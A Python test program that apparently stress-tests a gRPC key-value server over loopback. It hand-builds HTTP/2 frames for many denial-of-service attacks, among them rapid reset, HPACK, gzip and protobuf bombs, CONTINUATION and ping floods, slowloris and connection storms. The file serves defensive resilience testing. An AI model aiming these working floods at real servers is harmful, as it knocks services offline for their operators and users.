"""Clients that no gRPC library would be: each sends one thing, as fast as it is taken, on four connections, or on one;
or it has many connections and sends next to nothing.

    python3 attacks.py NAME PORT SECONDS [tls] [CONNECTIONS]

Beforehand, the key "large" has a value of a megabyte.

A program of its own, so that it shares no interpreter with the polite client. Loopback only. Prints what it sent."""
import gzip
import json
import resource
import selectors
import socket
import ssl
import struct
import sys
import time

KV = "/prism.patterns.keyvalue.KeyValuePattern/"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0"
DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
MOST_BYTES = 4 << 20                        # limits.max_message_bytes
PACE = 0.01                                 # of a crowd: it sends a byte every so often


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(s):
    s = s if isinstance(s, bytes) else s.encode()
    if len(s) < 127:
        return bytes([len(s)]) + s
    n, out = len(s) - 127, b"\x7f"
    while n > 127:
        out += bytes([n & 127 | 128])
        n >>= 7
    return out + bytes([n]) + s


def block(path=KV + "Store", *extra):
    pairs = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"), ("te", "trailers"),
             ("content-type", "application/grpc"), *extra]
    return b"".join(b"\0" + text(k) + text(v) for k, v in pairs)


def message(payload, flag=0):
    return bytes([flag]) + struct.pack(">I", len(payload)) + payload


def field(number, payload):
    n, out = len(payload), bytes([number << 3 | 2])
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n]) + payload


STORE = message(b"\x0a\x01a\x12\x01v")
LARGE = message(field(1, b"large"))
NO_WINDOW, WIDE_WINDOW = (frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n)) for n in (0, (1 << 31) - 1))


class Streams:
    """One piece of attack after the other, each on the next stream."""

    def __init__(self, piece, at_once=100, first=b""):
        self.piece, self.at_once, self.first = piece, at_once, first
        self.stream = 1

    def __call__(self):
        out, self.first = self.first, b""
        for _ in range(self.at_once):
            out += self.piece(self.stream)
            self.stream += 2
        return out


class Same:
    """The same bytes again and again, behind a first piece."""

    def __init__(self, again, first=b"", times=1000):
        self.again, self.first = again * times, first

    def __call__(self):
        out, self.first = self.first, b""
        return out or self.again


class Bodies:
    """One request after the other, each within the windows that the server opens; no answer is waited for."""

    def __init__(self, requests):
        self.requests, self.stream, self.body = requests, -1, b""
        self.window, self.initial, self.room, self.got = 65535, 65535, 0, b""

    def __call__(self):
        out = b""
        while len(out) < 1 << 16:
            if not self.body:
                self.stream, self.room = self.stream + 2, self.initial
                head, body = self.requests[self.stream // 2 % len(self.requests)]
                self.body = memoryview(body)
                out += frame(HEADERS, END_HEADERS, self.stream, head)
            n = min(len(self.body), self.window, self.room, 16384)
            if n <= 0:
                break
            out += frame(DATA, END_STREAM if n == len(self.body) else 0, self.stream, bytes(self.body[:n]))
            self.body, self.window, self.room = self.body[n:], self.window - n, self.room - n
        return out

    def received(self, data):
        self.got += data
        while len(self.got) >= 9 + (n := int.from_bytes(self.got[:3], "big")):
            kind, flags, payload = self.got[3], self.got[4], self.got[9:9 + n]
            mine = int.from_bytes(self.got[5:9], "big") == self.stream
            self.got = self.got[9 + n:]
            if kind == WINDOW_UPDATE:
                more = int.from_bytes(payload, "big")
                self.room += more if mine else 0
                self.window += 0 if mine else more  # those of streams that are over do no harm
            elif kind == SETTINGS:
                self.settings(payload)
            elif mine and (kind == RST or kind == HEADERS and flags & END_STREAM):
                self.body = b""                     # it is refused already

    def settings(self, payload):
        for name, value in struct.iter_unpack(">HI", payload):
            if name == 4:
                self.room, self.initial = self.room + value - self.initial, value


def rapid_reset():
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, STORE)
                   + frame(RST, 0, s, b"\0\0\0\x08"))


def rapid_reset_one():
    """On one connection."""
    return rapid_reset()


def rapid_reset_scan():
    head, scan = block(KV + "Scan"), message(b"")
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, scan)
                   + frame(RST, 0, s, b"\0\0\0\x08"))


def reset_without_message():
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(RST, 0, s, b"\0\0\0\x08"))


def made_you_reset():
    """The server resets: a window update of nothing."""
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(WINDOW_UPDATE, 0, s, b"\0\0\0\0"))


def headers_only():
    head = block()
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head))


def half_messages():
    """60 kB of a message of 4 MB."""
    head, part = block(), b"\0" + struct.pack(">I", 4 << 20) + b"x" * 16000
    more = b"x" * 16000
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, 0, s, part)
                   + b"".join(frame(DATA, 0, s, more) for _ in range(3)), 5,
                   frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\xff\xff"))


def promised_sizes():
    head, part = block(), b"\0" + struct.pack(">I", 4 << 20)
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, 0, s, part))


def wrong_prefix():
    head, body = block(), b"\xee" + b"\xff" * 20
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, body))


def unknown_methods():
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, block(f"/no.such.Service/Method{s}"))
                   + frame(DATA, END_STREAM, s, STORE))


def odd_namespaces():
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, block(KV + "Store", ("x-prism-namespace", f"n{s}")))
                   + frame(DATA, END_STREAM, s, STORE))


def big_headers():
    head = block(KV + "Store", ("x-big", "y" * 65000))
    pieces = [head[i:i + 16000] for i in range(0, len(head), 16000)]

    def piece(s):
        out = frame(HEADERS, 0, s, pieces[0])
        for i, p in enumerate(pieces[1:], 2):
            out += frame(CONTINUATION, END_HEADERS if i == len(pieces) else 0, s, p)
        return out + frame(DATA, END_STREAM, s, STORE)
    return Streams(piece, 5)


def hpack_bomb():
    """One entry of 3 kB, named 4,000 times by a byte each."""
    entry = frame(HEADERS, END_HEADERS, 1, block() + b"\x40" + text("x-bomb") + text("z" * 3000))
    head = block() + b"\xbe" * 4000
    bomb = Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, STORE), 20, entry)
    bomb.stream = 3
    return bomb


def gzip_bomb():
    """A value of four megabytes in four kilobytes."""
    value = field(1, b"bomb") + field(2, bytes(MOST_BYTES - 64))
    return Bodies([(block(KV + "Store", ("grpc-encoding", "gzip")), message(gzip.compress(value), 1))])


def proto_bombs():
    """Messages that are small beside what they say: two million empty keys, half a million unnamed fields, a million
    values of one field, a thousand messages in each other."""
    nested = b""
    for _ in range(1000):
        nested = field(3, nested)
    return Bodies([(block(KV + path), message(body)) for path, body in (
        ("RetrieveBatch", b"\x0a\0" * (MOST_BYTES // 2 - 16)),
        ("StoreBatch", b"\x0a\0" * (MOST_BYTES // 2 - 16)),
        ("Store", b"\xfa\xff\xff\xff\x0f\1x" * (MOST_BYTES // 7 - 16) + field(1, b"k")),
        ("Store", b"\x0a\1k\x12\1v" * (MOST_BYTES // 6 - 16)),
        ("StoreBatch", field(1, nested)))])


def stuck_answers():
    """One connection asks for a megabyte again and again, and has no room for it."""
    head = block(KV + "Retrieve")
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, LARGE), 100, NO_WINDOW)


def unread_answers():
    """It has room, but does not read."""
    stuck = stuck_answers()
    stuck.first = WIDE_WINDOW + frame(WINDOW_UPDATE, 0, 0, b"\x3f\xff\xff\xff")
    return stuck


def watch_hog():
    """One connection watches health again and again."""
    head, nothing = block("/grpc.health.v1.Health/Watch"), message(b"")
    return Streams(lambda s: frame(HEADERS, END_HEADERS, s, head) + frame(DATA, END_STREAM, s, nothing))


def continuation():
    """A header list that does not end."""
    more = frame(CONTINUATION, 0, 1, b"".join(b"\0" + text("x-%d" % i) + text("v" * 100) for i in range(100)))
    return Same(more, frame(HEADERS, 0, 1, block()), 20)


def continuation_empty():
    return Same(frame(CONTINUATION, 0, 1), frame(HEADERS, 0, 1, block()), 5000)


def settings_flood():
    return Same(frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff"), times=3000)


def ping_flood():
    return Same(frame(PING, 0, 0, b"\0" * 8), times=3000)


def ping_flood_unread():
    """Nor are the answers read."""
    return ping_flood()


def empty_data():
    return Same(frame(DATA, 0, 1), frame(HEADERS, END_HEADERS, 1, block()), 5000)


def dribble():
    """A window that opens by a byte."""
    return Same(frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1"), times=3000)


def priorities():
    return Same(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10"), times=3000)


def garbage():
    return Same(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n\x16\x03\x01\x02\x00", times=100)


ATTACKS = {f.__name__: f for f in (
    rapid_reset, rapid_reset_one, rapid_reset_scan, reset_without_message, made_you_reset, headers_only, half_messages,
    promised_sizes, wrong_prefix, unknown_methods, odd_namespaces, big_headers, hpack_bomb, gzip_bomb, proto_bombs,
    stuck_answers, unread_answers, watch_hog, continuation, continuation_empty, settings_flood, ping_flood,
    ping_flood_unread, empty_data, dribble, priorities, garbage)}
NEVER_READ = {"settings_flood", "ping_flood_unread", "unread_answers"}
CONNECTIONS = {"rapid_reset_one": 1, "stuck_answers": 1, "unread_answers": 1, "watch_hog": 1}      # others: 4

# Name: connections, what each sends at once, what it sends a byte at a time.
CROWDS = {"slow_loris": (300, b"", PREFACE + frame(HEADERS, END_HEADERS, 1, block())
                         + frame(DATA, 0, 1, message(bytes(16000)))),
          "idle_tcp": (5000, b"", b""),
          "idle_h2": (5000, PREFACE, b"")}


class Attacker:
    """One connection: sends what the attack makes, and connects again when it is thrown out."""

    def __init__(self, name, port, secure):
        self.name, self.port, self.secure = name, port, secure
        self.socket, self.bytes, self.connects = None, 0, 0
        self.connect()

    def connect(self):
        s = socket.create_connection(("127.0.0.1", self.port), 5)
        if self.secure:
            context = ssl.create_default_context()
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(["h2"])
            s = context.wrap_socket(s)
        s.setblocking(False)
        self.socket, self.connects = s, self.connects + 1
        self.make = ATTACKS[self.name]()
        self.rest = memoryview(b"" if self.name == "garbage" else PREFACE)

    def send(self):
        """False: nothing is to be sent before the server says more."""
        if not self.rest:
            self.rest = memoryview(self.make())
        if not self.rest:
            return False
        n = self.socket.send(self.rest)
        self.bytes += n
        self.rest = self.rest[n:]
        return True

    def read(self):
        got = self.socket.recv(1 << 16)
        if not got:
            raise ConnectionResetError
        if isinstance(self.make, Bodies):
            self.make.received(got)


def attack(name, port, seconds, secure, connections):
    """Returns (bytes sent, connections made)."""
    end = time.monotonic() + seconds
    gone = [0, 0]
    both = selectors.EVENT_READ | selectors.EVENT_WRITE
    with selectors.DefaultSelector() as selector:
        def enter():
            try:
                attacker = Attacker(name, port, secure)
            except OSError:
                return
            selector.register(attacker.socket, both, attacker)

        def leave(attacker):
            selector.unregister(attacker.socket)
            attacker.socket.close()
            gone[0] += attacker.bytes
            gone[1] += attacker.connects
        while time.monotonic() < end:
            while len(selector.get_map()) < connections and time.monotonic() < end:
                enter()
            for key, events in selector.select(0.05):
                try:
                    if events & selectors.EVENT_READ and name not in NEVER_READ:
                        key.data.read()
                        selector.modify(key.fileobj, both, key.data)
                    if events & selectors.EVENT_WRITE and not key.data.send():
                        selector.modify(key.fileobj, selectors.EVENT_READ, key.data)
                except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                    pass
                except OSError:
                    leave(key.data)
        for key in list(selector.get_map().values()):
            leave(key.data)
    return tuple(gone)


def connect_storm(port, seconds):
    """Connections that are closed as soon as they stand."""
    end, n = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with socket.create_connection(("127.0.0.1", port), 5) as s:
            s.sendall(PREFACE)
        n += 1
    return 0, n


def crowd(name, port, seconds):
    """Returns (bytes sent, connections made). Who is thrown out comes again."""
    count, first, drip = CROWDS[name]
    end, members, gone = time.monotonic() + seconds, {}, [0, 0]

    def enter():
        s = socket.create_connection(("127.0.0.1", port), 5)
        s.sendall(first)
        s.setblocking(False)
        members[s] = 0
        gone[0] += len(first)
        gone[1] += 1

    def one_byte(s):
        try:
            gone[0] += s.send(drip[members[s]:members[s] + 1])
            members[s] += 1
            return bool(s.recv(1 << 16))
        except BlockingIOError:
            return True
        except OSError:
            return False
    while time.monotonic() < end:
        while len(members) < count and time.monotonic() < end:
            enter()
        for s in [s for s in members if not one_byte(s)]:
            s.close()
            del members[s]
        time.sleep(PACE)
    return tuple(gone)


if __name__ == "__main__":
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    which, where, how_long = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    if which == "connect_storm":
        sent, connects = connect_storm(where, how_long)
    elif which in CROWDS:
        sent, connects = crowd(which, where, how_long)
    else:
        number = [int(a) for a in sys.argv[4:] if a.isdigit()] or [CONNECTIONS.get(which, 4)]
        sent, connects = attack(which, where, how_long, "tls" in sys.argv[4:], number[0])
    print(json.dumps({"bytes": sent, "connections": connects}))
